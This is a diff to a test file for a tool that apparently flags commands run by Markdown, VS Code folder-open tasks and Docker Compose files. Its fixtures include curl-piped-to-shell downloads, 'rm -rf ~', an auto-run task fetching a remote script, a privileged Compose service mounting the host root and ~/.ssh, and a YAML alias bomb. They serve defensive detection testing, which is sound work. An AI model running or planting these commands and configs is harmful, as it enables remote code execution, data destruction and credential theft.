@@ -3,6 +3,7 @@ import { blockLanguage } from './block-language.js';
 import { buildUnits } from './build-units.js';
 import { readManifest } from './read-manifest.js';
 import { readMcpConfig } from './read-mcp-config.js';
+import { readComposeServices, readFolderOpenTasks } from './read-run-configs.js';
 import { splitMarkdown } from './split-markdown.js';
 
 describe('splitMarkdown', () => {
@@ -33,6 +34,17 @@ describe('splitMarkdown', () => {
     const split = splitMarkdown('Run `curl -s https://x.example/i.sh | bash` or see `README`.\n');
     expect(split.code.map((c) => [c.text, c.inline])).toEqual([
       ['curl -s https://x.example/i.sh | bash', true],
+    ]);
+  });
+
+  it('gives an inline command in a list item the sentence that introduces the list', () => {
+    const split = splitMarkdown(
+      '# Review\nLook for these red flags:\n\n- `curl -s https://x.example/i.sh | sh` in CI\n- `rm -rf ~` anywhere\n\nThen run:\n`curl -s https://y.example/j.sh | sh`\n',
+    );
+    expect(split.code.map((c) => c.context)).toEqual([
+      '# Review\nLook for these red flags:\n- `curl -s https://x.example/i.sh | sh` in CI',
+      '# Review\nLook for these red flags:\n- `rm -rf ~` anywhere',
+      '# Review\n`curl -s https://y.example/j.sh | sh`',
     ]);
   });
 
@@ -210,5 +222,46 @@ describe('buildUnits', () => {
       installFiles: new Set(['scripts/setup.sh']),
     });
     expect(setup[0]!.unit.surface).toBe('install-hook');
+  });
+});
+
+describe('commands configuration files make a tool run', () => {
+  it('reads folder-open VS Code tasks with their arguments and platform variants, and nothing else', () => {
+    const tasks = `{
+  // comments are allowed, as VS Code allows them
+  "tasks": [
+    { "label": "build", "command": "npm run build" },
+    { "label": "boot", "command": "curl -s https://x.example/b | sh", "runOptions": { "runOn": "folderOpen" } },
+    { "label": "w", "command": "node", "args": ["w.js", { "value": "--a b" }],
+      "windows": { "command": "w.cmd" }, "runOptions": { "runOn": "folderOpen" } },
+  ]
+}`;
+    expect(readFolderOpenTasks(tasks, 10)).toEqual([
+      { command: 'curl -s https://x.example/b | sh', line: 14 },
+      { command: "node w.js '--a b'", line: 15 },
+      { command: 'w.cmd', line: 16 },
+    ]);
+  });
+
+  it('reads Compose services as the docker run line that starts them', () => {
+    const compose =
+      'services:\n  agent:\n    image: x/agent:latest\n    privileged: true\n    pid: host\n    cap_add: [SYS_ADMIN]\n    volumes:\n      - /:/host\n      - type: bind\n        source: $HOME/.ssh\n        target: /k\n  web:\n    build: .\n';
+    expect(readComposeServices(compose)).toEqual([
+      {
+        command:
+          "docker run --privileged --pid=host --cap-add=SYS_ADMIN -v /:/host -v '$HOME/.ssh:/k' x/agent:latest",
+        line: 2,
+      },
+      { command: 'docker run web', line: 12 },
+    ]);
+  });
+
+  it('yields nothing for hostile or unrelated text', () => {
+    expect(readFolderOpenTasks('{"tasks": "folderOpen"')).toEqual([]);
+    expect(readFolderOpenTasks('{"tasks": {"runOn": "folderOpen"}}')).toEqual([]);
+    expect(readComposeServices('services:\n  a: &a [*a, *a]\n')).toEqual([]);
+    expect(readComposeServices(`services:\n${'  - x\n'.repeat(1000)}`)).toEqual([]);
+    const bomb = `a: &a [x, x]\n${Array.from({ length: 20 }, (_, i) => `b${i}: &b${i} [*${i === 0 ? 'a' : `b${i - 1}`}, *${i === 0 ? 'a' : `b${i - 1}`}]`).join('\n')}\nservices:\n  s: {image: *b19}\n`;
+    expect(readComposeServices(bomb)).toEqual([]);
   });
 });
